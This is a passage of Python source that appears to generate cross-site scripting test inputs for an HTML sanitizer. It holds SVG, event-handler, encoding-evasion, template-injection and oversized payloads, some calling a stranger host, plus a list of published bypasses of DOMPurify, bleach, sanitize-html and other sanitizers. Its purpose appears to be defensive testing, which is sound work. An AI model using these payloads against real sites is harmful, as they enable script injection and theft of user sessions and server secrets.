        f"<svg id=x xmlns='http://www.w3.org/2000/svg' onload='{CALL}'><script>{CALL}</script></svg>", "image/svg+xml"
    )
    for tag, attribute in product(
        ["use", "image", "feImage", "a", "script", "tref", "mpath", "pattern", "linearGradient", "textPath"],
        ["href", "xlink:href"],
    ):
        yield f'<svg><{tag} {attribute}="{picture}#x"/></svg>'
        yield f'<svg><{tag} {attribute}="//{STRANGER}/x.svg#x"/></svg>'
        yield f'<svg><{tag} {attribute}="javascript:{CALL}"><circle r=9 /></{tag}></svg>'
    yield f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{CALL}</handler></svg>"


@kind(bites=True)
def new_elements() -> Iterator[str]:
    """Newer features of browsers: popovers, commands, shadow roots, custom elements, hidden states."""
    for event in "beforetoggle toggle command".split():
        yield f"<div id=p popover on{event}={CALL}>x</div><button popovertarget=p autofocus>y</button>"
        yield f"<dialog id=d open on{event}={CALL}>x</dialog><button commandfor=d command=show-modal>y</button>"
        yield f"<details open name=n on{event}={CALL}>x</details>"
        yield f"<p id=i popover=auto on{event}={CALL}>x</p><a href=/x/ interestfor=i popovertarget=i commandfor=i>y</a>"
    for tag in ("input type=hidden", "p", "div", "a href=/x/", "x-y"):
        yield f"<{tag} style=display:block;content-visibility:auto oncontentvisibilityautostatechange={CALL}>x"
    for event in "scroll scrollend scrollsnapchange scrollsnapchanging".split():
        style = "overflow:scroll;height:9px;scroll-snap-type:y mandatory"
        yield f"<div style='{style}' on{event}={CALL}><p id=h>x<br><br><a autofocus href=#h>y</a></div>"
    for tag in ("x-y", "a-a", "x-\u00e9", "annotation-x", "font-face-x", "p is=x-y", "a is=x-y", "X-Y"):
        yield f"<{tag} tabindex=0 autofocus onfocus={CALL}>x"
        yield f"<{tag} onclick={CALL}>x</{tag.split()[0]}>"
    for mode, tag, sink in product(
        ["shadowrootmode=open", "shadowroot=closed", "shadowrootmode=open shadowrootclonable"],
        ["div", "p", "x-y", "blockquote"],
        SINKS[:3],
    ):
        yield f"<{tag}><template {mode}>{sink}</template></{tag}>"
    for sink in SINKS:
        yield f"<slot onslotchange={CALL}>{sink}</slot>"
        yield f"<select><button><selectedcontent></selectedcontent></button><option selected>{sink}</option></select>"
        yield f"<search>{sink}</search><menu>{sink}</menu><hgroup>{sink}</hgroup>"
        yield f"<object><param>{sink}</object><noscript>{sink}</noscript><picture>{sink}</picture>"
        yield f"<ruby><rtc>{sink}</rtc></ruby><dl><dt>{sink}<dd>{sink}</dl>"
    for name in (
        "pagereveal",
        "pageswap",
        "beforeunload",
        "hashchange",
        "popstate",
        "unhandledrejection",
        "message",
        "storage",
        "load",
        "resize",
    ):
        yield f"<body on{name}={CALL}>"
        yield f"<p>x</p><BODY ON{name.upper()}={CALL}><frameset on{name}={CALL}>"
    yield f"<video autoplay muted oncanplay={CALL} onerror={CALL}><source src=x></video>"
    yield f"<audio src=x onerror={CALL} controls></audio>"
    yield f"<marquee onstart={CALL} onfinish={CALL} loop=1 width=1>x</marquee>"
    yield f"<link rel=expect href=#x blocking=render onload={CALL}>"
    yield f'<script type=speculationrules>{{"prefetch":[{{"urls":["//{STRANGER}/"]}}]}}</script>'


# --- Letters --------------------------------------------------------------------------------------------------


@kind(bites=False)
def references() -> Iterator[str]:
    """Tags written as character references: text, unless somebody reads them twice."""
    forms = [
        "&#{0};",
        "&#{0}",
        "&#x{0:x};",
        "&#x{0:X}",
        "&#{0:07d};",
        "&#X{0:04x};",
        "&amp;#{0};",
        "&#38;#{0};",
        "%{0:02X}",
        "\\u{0:04x}",
        "\\{0:o}",
        "&#x{0:08x}",
    ]
    for sink, form in product(SINKS, forms):
        yield numeric(sink, form)
        yield "".join(numeric(letter, form) if letter in "<>\"'=/" else letter for letter in sink)
    for sink in SINKS:
        once = html.escape(sink)
        yield from (
            once,
            html.escape(once),
            html.escape(html.escape(once)),
            once.replace(";", ""),
            once.upper(),
            once.replace("&", "&amp"),
        )
        yield sink.replace("<", "&lt").replace(">", "&gt")
        yield sink.replace("<", "&LT;").replace("=", "&equals;").replace("(", "&lpar;").replace(")", "&rpar;")
        yield f"<p title='{once}'>{once}</p><a title='{html.escape(once)}'>{html.escape(once)}</a>"


@kind(bites=False)
def alphabets() -> Iterator[str]:
    """The same tags in other encodings, with look-alikes, marks and letters that become others in another case."""
    for sink in SINKS:
        yield "".join(
            f"+{base64.b64encode(letter.encode('utf-16-be')).decode().rstrip('=')}-" if letter in "<>\"'&" else letter
            for letter in sink
        )
        yield sink.replace("<", "+ADw-").replace(">", "+AD4-")
        yield sink.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe")
        yield sink.replace("<", "\xe0\x80\xbc").replace(">", "\xe0\x80\xbe")
        yield sink.replace("<", "\xbc").replace(">", "\xbe")
        yield sink.replace("<", "\u013c").replace(">", "\u013e")
        yield sink.replace("<", "\uff1c").replace(">", "\uff1e")
        yield sink.replace("<", "\u2039").replace(">", "\u203a")
        yield sink.replace("<", "\ufe64").replace(">", "\ufe65")
        yield sink.encode("utf-16-le").decode("latin-1")
        yield "\ufeff" + sink
        yield "\ufffe" + sink
        yield "\x1b(J" + sink.replace('"', "\\") + "\x1b(B"
        yield "\x1b$B" + sink
        yield "\x82" + sink
        yield sink.replace("<", "<\ufeff")
        yield sink.replace("s", "\u017f").replace("k", "\u212a")
        yield sink.replace("i", "\u0131")
        yield sink.upper().replace("I", "\u0130")
        yield sink.replace(" ", "\u2028").replace("=", "\u2029=")
        yield "\u202e" + sink[::-1] + "\u202c" + sink
        yield "".join(letter + "\u0301" for letter in sink)
        yield "".join(letter + "\x00" for letter in sink)
        yield sink.replace("<", "<\x00").replace("o", "o\x00")
        yield "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in sink)
        yield "".join(chr(0xE0000 + ord(letter)) for letter in sink) + sink
    for control in [*map(chr, range(1, 32)), "\x7f", *map(chr, range(0x80, 0xA0)), "\ufdd0", "\uffff", "\U0001ffff"]:
        yield f"{control}<svg{control}onload{control}={control}{CALL}{control}>{control}"


@kind(bites=False)
def template_languages() -> Iterator[str]:
    """Text that is code to a template engine, on the server or in the page."""
    marks = [
        ("{{", "}}"), ("{%", "%}"), ("{#", "#}"), ("{{{", "}}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("<%",
        "%>"), ("<?=", "?>"), ("[[", "]]"),
        ("[%", "%]"), ("@{", "}"), ("*{", "}"), ("<#", "#>"), ("{{=", "=}}"), ("$(", ")"), ("~{", "}"), ("<!--#",
        "-->"), ("`", "`"),
    ]  # fmt: skip
    inner = [
        CALL, f"constructor.constructor('{CALL}')()", "7*7", "settings.SECRET_KEY",
        f"autoescape off %}}{SVG}{{% endautoescape", "include 'news/article.html'",
        f"'{SVG}'|safe", "request.META", "load static", f"exec cmd='{CALL}'", "debug", "csrf_token",
        f"$eval.constructor('{CALL}')()",
    ]  # fmt: skip
    for (start, end), text in product(marks, inner):
        yield f"{start}{text}{end}"
        yield f"<p>{start} {text} {end}</p>"
    for start, end in marks:
        yield f"{start[0]}<b></b>{start[1:]}{CALL}{end}"
        yield f'<a href="{start}{CALL}{end}" title="{start}{CALL}{end}">x</a>'
    for form in ["%({0})s", "%s%n%x", "{{0.__class__}}", "{{0!r}}", "\\g<0>", "\\1", "$1", "$&", "%(x)", "{{}}"]:
        yield form.format(CALL)


@kind(bites=False)
def huge() -> Iterator[str]:
    """Inputs out of all proportion: long names, long values, many attributes, many references, many tags."""
    many = 20_000
    yield f'<a title="{"x" * many}" href="javascript:{"/*" * many}*/{CALL}">x</a>'
    yield f"<{'a' * many} onclick={CALL}>"
    yield f"<p {'a' * many}={CALL}>x</p>"
    yield "<p " + " ".join(f"a{number}={CALL}" for number in range(2000)) + ">x</p>"
    yield "<a " + f"href=javascript:{CALL} " * 2000 + ">x</a>"
    for piece in [
        "&lt;",
        "&",
        "<",
        "&nbsp;",
        '"',
        "&#60;",
        "<p>",
        "</p>",
        "<br>",
        "<b>",
        "<!--",
        "<a href=/x/>",
        "\x00",
        "\u2028",
        "<ul><li>",
        "<p><em>",
    ]:
        yield piece * 600 + IMAGE
    yield "<p>" + "".join(f"<b id={number}>" for number in range(60)) + "</p>" + "<p>x" * 60 + SVG
    yield f"{'<p>x</p>' * 500}{SCRIPT}{'<p>y</p>' * 500}"


# --- What others have been caught by --------------------------------------------------------------------------

PUBLISHED = [
    # ammonia: a raw-text element unwrapped from a foreign namespace
    '<svg><{raw}><a title="</{raw}>{sink}">x</a></{raw}></svg>',
    # ammonia: clean-up that moves an element to another namespace
    '<math><{raw}><a title="</{raw}>{sink}"></math>',
    # ammonia: annotation-xml whose encoding decides
    '<math><annotation-xml encoding="text/&#104;tml"><{raw}><a title="</{raw}>{sink}">',
    # bleach: noscript read with and without scripting
    "<noscript><{raw}></noscript>{sink}",
    # bleach: raw text inside foreign content
    "<svg><{raw}>{sink}</{raw}></svg>",
    # bleach: a paragraph leaves foreign content
    "<math><p></p><{raw}><!--</{raw}>{sink}--></{raw}></math>",
    # DOMPurify: an end tag makes a paragraph
    '<svg></p><{raw}><a id="</{raw}>{sink}">',
    # DOMPurify: forms in forms move mglyph
    "<form><math><mtext></form><form><mglyph><{raw}></math>{sink}",
    # DOMPurify: tables move mglyph
    '<math><mtext><table><mglyph><{raw}><!--</{raw}><a title="--&gt;{sink}">',
    # DOMPurify: and back again through SVG
    '<form><math><mtext></form><form><mglyph><svg><mtext><{raw}><path id="</{raw}>{sink}">',
    # DOMPurify: noscript in desc
    '<svg><x><desc><noscript>&lt;/noscript>&lt;/desc>&lt;p>&lt;/p>&lt;{raw}>&lt;a title="&lt;/{raw}>{sink}">',
    # DOMPurify: annotation-xml holds foreignObject
    '<svg><annotation-xml><foreignobject><{raw}><!--</{raw}><p id="-->{sink}">',
    # DOMPurify: links adopted through a table
    '<svg><a><foreignobject><a><table><a></table><{raw}><!--</{raw}></svg><a id="-->{sink}">',
    # DOMPurify: an instruction is a comment in HTML
    "<?xml-stylesheet > {sink} <{raw}> ?>",
    # DOMPurify: text nodes that join to an expression
    "<{raw}>{{<b>{{</b>constructor.constructor('ran()')()}}}}</{raw}>{sink}",
    # sanitize-html: brackets left over when a tag goes
    "<<{raw}>{sink}/>{raw} src=x onerror=ran()>",
    # sanitize-html: references decoded inside raw text
    "<{raw}>&lt;/{raw}&gt;&lt;svg onload=ran()&gt;{sink}</{raw}>",
    # sanitize-html: the content of a tag that goes
    "<{raw}><script>ran()</script>{sink}</{raw}>",
    # TYPO3: a comment that ends with a bang
    '<!--{raw} foo=--!>{sink}<!--<{raw}>">',
    # TYPO3: CDATA outside foreign content
    "<![CDATA[<math><{raw}>{sink}]]>",
    # TYPO3: an end tag with a space
    "<{raw}></{raw}\t>{sink}",
    # Closure: a closing tag in an attribute
    '<noscript><p title="</noscript>{sink}"><{raw}>',
    # HTML Purifier: a quote in an address
    '<a href="http://x.example/?\'{raw}>{sink}">x</a>',
    # HTML Purifier: CSS in a font's name
    "<p style=\"font-family:'{raw}\\27\\3b x:expression(ran())'\">{sink}</p>",
    # AntiSamy: one kind of content beside another
    "<select><{raw}></select><{raw}>{sink}</{raw}>",
    # AngularJS: an attribute read again after decoding
    "<a href='&#x6a;avascript:ran()' title='&quot;{sink}'>{raw}</a>",
    # jsoup: control characters before the scheme
    "<a href='\x19javascript:ran()'><{raw}>{sink}</a>",
    # Loofah: unescaped where it was escaped
    "<svg><{raw}><a href='data:text/html,&lt;script&gt;ran()&lt;/script&gt;'>{sink}",
]
"""A form of each published way; `{raw}` and `{sink}` are filled in turn."""


@kind(bites=True)
def published_bypasses() -> Iterator[str]:
    """Each class by which a known sanitizer was passed, with every raw-text element and several scripts."""
    for form, raw, sink in product(PUBLISHED, RAW, SINKS[:2]):
        yield form.format(raw=raw, sink=sink.replace('"', "'"))
